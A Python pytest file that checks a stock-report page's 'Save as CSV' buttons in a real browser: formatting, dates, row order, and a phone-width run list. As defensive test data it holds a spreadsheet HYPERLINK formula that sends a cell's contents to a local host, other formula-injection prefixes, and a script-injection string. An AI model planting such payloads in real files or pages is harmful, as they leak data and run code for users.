"""Every table of a page as CSV, saved in a real browser: raw numbers, ISO dates, nothing that a spreadsheet runs."""

import csv
import io
import shutil
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from stockseq.report.page import render_report
from stockseq.report.render import render_run
from stockseq.report.run_list import render_runs
from stockseq.schemas import Dropped
from tests.report import test_page_in_browser as in_browser
from tests.report.conftest import ATTACK

FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"open")'


@pytest.fixture(scope="module")
def visit(browser: Any, build_run: Any, tmp_path_factory: pytest.TempPathFactory) -> Any:
    """Return a visit to a page whose rows were dropped for hostile reasons."""
    hostile = [FORMULA, ATTACK, "\t=1+1", "@SUM(1)", "-1+1", 'a "quoted", reason\nof two lines', "\uff1d1+1"]
    run = build_run(
        n_tickers=3,
        n_sessions=30,
        dropped=[Dropped("bars", FORMULA, reason, number) for number, reason in enumerate(hostile, start=1)],
        models=pd.DataFrame(
            {"model_id": ["-m"], "trained_through": pd.to_datetime(["2015-12-31"]), "accuracy": [0.55]}
        ),
    )
    visit = in_browser.Visit(browser, render_report(run, tmp_path_factory.mktemp("csv")))
    visit.page.evaluate("document.querySelectorAll('details').forEach(fold => fold.open = true)")
    return visit


def save(visit: Any, name: str, **keys: Any) -> tuple[str, bytes, list[list[str]]]:
    """Save a table and return the file's name, its bytes, and its rows as Python's csv reads them."""
    button = visit.page.get_by_role("button", name=f"Save as CSV: {name}", exact=True)
    with visit.page.expect_download() as saved:
        button.press("Enter") if keys.get("by_keyboard") else button.click()
    content = Path(saved.value.path()).read_bytes()
    return (
        saved.value.suggested_filename,
        content,
        list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))),
    )


def test_every_table_of_the_page_has_its_button(visit: Any) -> None:
    """Each says which table it saves, and is no part of what is printed."""
    names = visit.page.eval_on_selector_all("button.csv", "all => all.map(button => button.getAttribute('aria-label'))")
    assert len(names) == visit.page.locator("main table").count() == len(set(names)) > 5
    visit.page.emulate_media(media="print")
    assert not visit.page.locator("button.csv").first.is_visible()
    visit.page.emulate_media(media="screen")


def test_what_a_spreadsheet_would_run_is_text(visit: Any) -> None:
    """An apostrophe stands before = + - @ and the like, also behind a tab or in full width; quotes are doubled."""
    name, content, rows = save(visit, "What was dropped and why")
    assert name == "what-was-dropped-and-why.csv"
    assert content.startswith(b"\xef\xbb\xbf")
    cells = [cell for row in rows[1:] for cell in row]
    assert sum(cell == "'" + FORMULA for cell in cells) == 8
    assert not [cell for cell in cells if cell.strip()[:1] in set("=+-@\uff1d")]
    # The page makes a line break visible, so that no cell has one.
    assert 'a "quoted", reason\ufffdof two lines' in cells
    assert "</script><script>window.attacked=1</script>" in content.decode()
    assert visit.page.evaluate("window.attacked") is None
    assert visit.complaints == []


def test_numbers_are_raw_and_sessions_are_dates(visit: Any) -> None:
    """55.2 % on the page is 0.5524 in the file, a dash is nothing, and the rows come in the order shown."""
    _, _, rows = save(visit, "Every measure of the model and its baselines", by_keyboard=True)
    accuracy = rows[0].index("Accuracy")
    assert [row[accuracy] for row in rows[1:]] == ["0.5524", "0.5102", "0.483", "0.5398"]
    assert rows[2][rows[0].index("AUC")] == ""
    name, _, fills = save(visit, "Fills")
    assert fills[1][:2] == ["2014-01-02", "T000"]
    assert name == "fills-first-50-of-90.csv"
    assert len(fills) == 51


def test_the_list_of_runs_fits_a_phone_sorts_and_leads_to_a_page(browser: Any, tmp_path: Path) -> None:
    """From a folder on a disk, under its own policy; by hand, 45.6 % is the lowest accuracy of these runs but one."""
    shutil.unpack_archive(Path(__file__).with_name("runs_0_1_0.zip"), tmp_path / "runs")
    render_run(tmp_path / "runs" / "20190426T130000Z-daily")
    visit = in_browser.Visit(browser, render_runs(tmp_path), viewport={"width": 390, "height": 900})
    assert visit.page.evaluate("document.documentElement.scrollWidth") == 390
    head = visit.page.locator(".runs thead th", has_text="Accuracy").locator("button")
    head.click()
    head.click()
    first = visit.page.locator(".runs tbody th").all_inner_texts()[:2]
    assert first == ["20261128T142625Z-benchmark", "20190426T130000Z-daily"]
    visit.page.locator(".runs a").click()
    assert visit.page.title().startswith("Forecasts for 2019-04-26")
    assert visit.complaints == []
